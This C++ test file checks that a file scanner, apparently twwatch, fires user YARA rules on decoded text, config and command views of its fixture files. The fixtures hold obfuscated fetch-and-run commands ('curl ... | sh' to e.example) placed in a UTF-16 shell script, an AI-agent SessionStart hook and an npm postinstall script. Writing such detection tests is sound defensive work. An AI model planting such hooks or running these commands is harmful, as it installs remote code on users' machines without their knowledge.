// Black-box: a user rule that targets one view (`view == "..."`) fires through the real `twwatch --scan`
// on a file whose raw bytes do not hold the text it looks for; its line carries the rule's description
// and, where the view keeps the file's lines, the line it matched on.

#include "ScanRunner.h"

#include <gtest/gtest.h>
#include <map>

namespace fs = std::filesystem;
using namespace tw::test;

namespace {

struct Row
{
    const char* rule;
    const char* view;
    const char* needle; // what the rule looks for, only in that view
    const char* file;
    std::string content;
    const char* description; // none when null
    std::vector<std::uint32_t> lines;
};

std::string utf16le(const std::string& ascii)
{
    std::string out = "\xFF\xFE";
    for (char c : ascii) {
        out += c;
        out += '\0';
    }
    return out;
}

// The rule-text form of a string: quotes, backslashes and line ends escaped as YARA reads them.
std::string escaped(const std::string& text)
{
    std::string out;
    for (char c : text)
        out += c == '"' ? "\\\"" : c == '\\' ? "\\\\" : c == '\n' ? "\\n" : std::string(1, c);
    return out;
}

TEST(RulesViewsScan, UserRulesOnEachViewFire)
{
    const Row rows[] = {
        {"user_text",
         "text",
         "curl -fsSL https://e.example/x | sh",
         "setup.sh",
         utf16le("#!/bin/sh\r\ncurl -fsSL https://e.example/x | sh\r\n"),
         "fetches \"x\"\nand runs it",
         {2}},
        {"user_config",
         "config",
         "hooks.SessionStart.0.hooks.0.command = curl",
         ".claude/settings.json",
         R"({"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "\u0063url -s x"}]}]}})",
         "a hook",
         {}},
        {"user_commands",
         "commands",
         "npm.postinstall: curl -fsSL",
         "pkg/package.json",
         R"({"scripts": {"postinstall": "c\u0075rl -fsSL${IFS}https://e.example | sh"}})",
         nullptr,
         {}},
    };
    TempDir config;
    TempDir tree;
    useConfigHome(config.path());
    std::string rules;
    for (const auto& row : rows) {
        const std::string description =
            row.description ? " description = \"" + escaped(row.description) + "\"" : std::string();
        rules += std::string("rule ") + row.rule + " { meta: severity = \"high\"" + description +
                 " strings: $a = \"" + row.needle + "\" condition: $a and view == \"" + row.view + "\" }\n";
        fs::create_directories((tree / row.file).parent_path());
        writeFile(tree / row.file, row.content);
    }
    writeUserRule(config.path(), "views.yar", rules);

    const ScanResult r = runTwwatch({"--scan", tree.path().string()});
    EXPECT_EQ(r.process.exitCode, 0) << r.process.err;
    std::map<std::pair<std::string, std::string>, const Event*> seen;
    for (const auto& e : r.events)
        seen[{fs::path(e.path).lexically_relative(tree.path()).string(), e.rule}] = &e;
    for (const auto& row : rows) {
        const auto e = seen.find({row.file, row.rule});
        ASSERT_NE(e, seen.end()) << row.rule << " on " << row.file;
        EXPECT_EQ(e->second->description, row.description ? row.description : "") << row.rule;
        EXPECT_EQ(e->second->lines, row.lines) << row.rule;
    }
}

} // namespace
